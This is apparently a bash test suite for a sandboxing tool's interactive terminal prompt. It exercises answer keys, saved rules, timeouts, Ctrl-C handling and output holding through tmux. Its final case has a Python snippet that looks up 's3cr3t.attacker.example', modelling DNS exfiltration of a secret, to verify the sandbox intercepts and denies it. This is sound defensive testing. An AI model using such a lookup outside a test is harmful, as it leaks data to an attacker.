#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# The live prompt on a real terminal (tmux): an ask shows the process, the command and the
# rule; y/n/a/d answer it, A/D for the program with any arguments; 'r' saves the answer as a
# rule ('p' widens it to the program); --ask-timeout counts down and says it timed out; Ctrl-C
# denies, a second one interrupts the program; the program's own output is held
# back while the question is up; the program keeps a terminal of its own (isatty, input,
# Ctrl-C) and the person's terminal is restored afterwards.
. "$(dirname "$0")/../lib.sh"
require_sandbox
if ! command -v tmux >/dev/null; then
	skip "tmux tests" "tmux is not installed"
	done_testing
	exit
fi

W=$T/work
cd "$W" || exit 1
export XDG_CONFIG_HOME=$T/config
SOCK=$T/tmux.sock
tm() { tmux -S "$SOCK" "$@"; }
trap 'tm kill-server 2>/dev/null; cleanup_scratch' EXIT
# One server for the whole script (restarting tmux servers quickly is not reliable); each
# case gets a session of its own, $S.
tm new-session -d -s keep "sleep 900"
S=none
n_sessions=0
screen() { tm capture-pane -p -t "$S" -S -100 2>/dev/null; }
# wait_screen PATTERN: poll the screen until it matches (grep -E), 20 s at most.
wait_screen() { wait_for 20 sh -c 'tmux -S "$1" capture-pane -p -t "$2" -S -100 | grep -qE -- "$3"' _ "$SOCK" "$S" "$1"; }
# start CMD: run CMD in a fresh 100x30 terminal, then "EXIT=status" and the terminal mode.
start() {
	[ "$S" = none ] || tm kill-session -t "$S" 2>/dev/null
	n_sessions=$((n_sessions + 1))
	S=case$n_sessions
	tm new-session -d -s "$S" -x 100 -y 30 \
		"cd '$W' && $1; echo EXIT=\$?; stty -a | grep -o -- '-\\?icanon'; sleep 60"
}

cat >"$T/ask.rules" <<'RULES'
ask exec /usr/bin/touch
RULES
cat >"$T/prog.py" <<'PY'
import subprocess, sys
print("isatty", sys.stdout.isatty(), sys.stdin.isatty(), flush=True)
for name in sys.argv[1:]:
    try:
        subprocess.run(["touch", name])
        print("ran", name, flush=True)
    except PermissionError:
        print("denied", name, flush=True)
print("got", repr(input("type: ")), flush=True)
PY
AL="'$AIRLOCK' run --review never -r '$T/ask.rules' -- '$PY' '$T/prog.py'"

start "$AL one two"
check "the question appears" wait_screen 'airlock: allow this\?'
check "it names the process" wait_screen "process +pid [0-9]+: .*prog.py one two"
check "it names the command and the program's path" wait_screen "wants +exec touch one +\[/usr/bin/touch\]"
check "it names the rule that asked" wait_screen "rule +.*ask.rules:1"
check "the program has a terminal of its own" wait_screen "isatty True True"
tm send-keys -t "$S" y
check "y allows once" wait_screen "^ran one"
check "a different command asks again" wait_screen "wants +exec touch two"
tm send-keys -t "$S" n
check "n denies" wait_screen "^denied two"
check "the program reads its own input" wait_screen "type:"
tm send-keys -t "$S" 'hello' Enter
check "... and gets what the person typed" wait_screen "got 'hello'"
check "airlock exits with the program's status" wait_screen "^EXIT=0"
check "the terminal is back in canonical mode" wait_screen "^icanon"
"$AIRLOCK" show --json last >"$T/s1.json"
is "$(jf s1 "sorted(c['path'].rsplit('/',1)[1] for c in j['changes'])")" "['one']" \
	"only the allowed command's change is in the session"

# a: allow for the session; the same command is not asked again
start "$AL same same"
check "the question appears (session answer)" wait_screen 'wants +exec touch same'
tm send-keys -t "$S" a
check "the first runs" wait_screen "^ran same"
check "the second runs without a question" wait_screen "type:"
is "$(screen | grep -c 'allow this?')" 1 "asked once"
tm send-keys -t "$S" Enter
check "done" wait_screen "^EXIT=0"

# r: save the answer as a rule in the user's rules file
start "$AL saved"
check "the question offers to save a rule" wait_screen '\[r\] save the answer as a rule'
tm send-keys -t "$S" r
check "it shows the rule it would save" wait_screen 'rule: \.\.\. exec /usr/bin/touch saved \$'
tm send-keys -t "$S" y
check "the saved answer allows" wait_screen "^ran saved"
tm send-keys -t "$S" Enter
check "done (saved)" wait_screen "^EXIT=0"
is "$(cat "$XDG_CONFIG_HOME/airlock/rules" 2>/dev/null)" 'allow exec /usr/bin/touch saved $' \
	"the rule is appended to the user's rules file"
"$AIRLOCK" rules check "$XDG_CONFIG_HOME/airlock/rules" >/dev/null 2>&1
is "$?" 0 "the saved rules file is valid"
rm -rf "$XDG_CONFIG_HOME"

# A and D: the program with any arguments, for the session; one question for touch x1 and x2
start "$AL x1 x2"
check "the question offers the program with any arguments" wait_screen '\[A\] allow with any arguments'
check "... and to deny it so" wait_screen '\[D\] deny with any arguments'
tm send-keys -t "$S" A
check "A allows the program" wait_screen "^ran x1"
check "... with other arguments too, without a question" wait_screen "^ran x2"
is "$(screen | grep -c 'allow this?')" 1 "A: asked once"
tm send-keys -t "$S" Enter
check "done (A)" wait_screen "^EXIT=0"
start "$AL y1 y2"
check "the question appears (D)" wait_screen 'wants +exec touch y1'
tm send-keys -t "$S" D
check "D denies the program" wait_screen "^denied y1"
check "... with other arguments too, without a question" wait_screen "^denied y2"
is "$(screen | grep -c 'allow this?')" 1 "D: asked once"
tm send-keys -t "$S" Enter
check "done (D)" wait_screen "^EXIT=0"

# r, then p: the rule proposed is the program's with any arguments, and is answered so
start "$AL w1 w2"
check "the question appears (r p)" wait_screen 'wants +exec touch w1'
tm send-keys -t "$S" r
check "r proposes the exact command" wait_screen 'rule: \.\.\. exec /usr/bin/touch w1 \$'
tm send-keys -t "$S" p
check "p widens it to the program" wait_screen 'rule: \.\.\. exec /usr/bin/touch *$'
tm send-keys -t "$S" y
check "the wide rule allows" wait_screen "^ran w1"
check "... and answers the next command with other arguments" wait_screen "^ran w2"
tm send-keys -t "$S" Enter
check "done (r p)" wait_screen "^EXIT=0"
is "$(cat "$XDG_CONFIG_HOME/airlock/rules" 2>/dev/null)" 'allow exec /usr/bin/touch' \
	"the saved rule is the program's with any arguments"
rm -rf "$XDG_CONFIG_HOME"

# --ask-timeout: a countdown, then "timed out: denied"
start "'$AIRLOCK' run --review never --ask-timeout 3s -r '$T/ask.rules' -- '$PY' '$T/prog.py' late"
check "the question counts down" wait_screen '\(denied in [1-3]s\) >'
check "a question that runs out says so" wait_screen "timed out: denied"
check "... having counted down to its last second" wait_screen '\(denied in 1s\) > timed out: denied'

check "... and is denied" wait_screen "^denied late"
tm send-keys -t "$S" Enter
check "done (timeout)" wait_screen "^EXIT=0"

# Ctrl-C at a question denies it; a second one interrupts the program as it would bare
start "$AL c1 c2"
check "the question appears (Ctrl-C)" wait_screen 'wants +exec touch c1'
tm send-keys -t "$S" C-c
check "Ctrl-C denies the question" wait_screen "denied once \(Ctrl-C again to interrupt"
check "... the program goes on" wait_screen "^denied c1"
check "the next question appears" wait_screen 'wants +exec touch c2'
tm send-keys -t "$S" C-c
check "a second Ctrl-C denies and interrupts" wait_screen "denied, and the program interrupted"
check "the program is interrupted (KeyboardInterrupt)" wait_screen "KeyboardInterrupt"
check "airlock ends with the program's status for SIGINT" wait_screen "^EXIT=130"
check "the terminal is back in canonical mode (Ctrl-C)" wait_screen "^icanon"

# output is held while a question is up
cat >"$T/ticker.py" <<'PY'
import subprocess, sys, threading, time
def tick():
    for i in range(1000):
        print("tick", i, flush=True)
        time.sleep(0.02)
threading.Thread(target=tick, daemon=True).start()
time.sleep(0.3)
try:
    subprocess.run(["touch", "t"])
except PermissionError:
    pass
time.sleep(0.3)
print("finished", flush=True)
PY
start "'$AIRLOCK' run --review never -r '$T/ask.rules' -- '$PY' '$T/ticker.py'"
check "the ticker's question appears" wait_screen 'wants +exec touch t'
sleep_check() { screen | sed -n '/allow this?/,$p' | grep -c '^tick'; }
# Poll for a second: no tick may appear below the question while it is up.
held=ok
for _ in $(seq 20); do
	[ "$(sleep_check)" = 0 ] || held=broken
	sleep 0.05
done
is "$held" ok "the program's output is held back while the question is up"
tm send-keys -t "$S" n
check "after the answer the held output comes" wait_screen "^finished"

# Ctrl-C reaches the program through its terminal
cat >"$T/wait.py" <<'PY'
import time
print("waiting", flush=True)
try:
    time.sleep(60)
except KeyboardInterrupt:
    print("interrupted", flush=True)
PY
start "'$AIRLOCK' run --review never -r '$T/ask.rules' -- '$PY' '$T/wait.py'"
check "the program waits" wait_screen "^waiting"
tm send-keys -t "$S" C-c
check "Ctrl-C interrupts the program" wait_screen "^(\^C)?interrupted" || screen | sed "s/^/# /"
check "and airlock ends" wait_screen "^EXIT=0"

# A name only an ask could open is asked about before it is looked up (the query would carry
# it out); denied, the program gets NXDOMAIN. The upstream is a port nobody serves.
cat >"$T/lookup.py" <<'PY'
import socket
try:
    socket.getaddrinfo("s3cr3t.attacker.example", 443, socket.AF_INET)
    print("resolved", flush=True)
except socket.gaierror as e:
    print("lookup", "NXDOMAIN" if e.errno == socket.EAI_NONAME else e, flush=True)
PY
start "'$AIRLOCK' run --review never --dns-upstream 127.0.0.1:9 -- '$PY' '$T/lookup.py'"
check "a lookup asks" wait_screen "wants +to look up s3cr3t.attacker.example"
check "  naming no process" wait_screen "process +a name lookup"
tm send-keys -t "$S" n
check "  denied: NXDOMAIN" wait_screen "^lookup NXDOMAIN"

done_testing
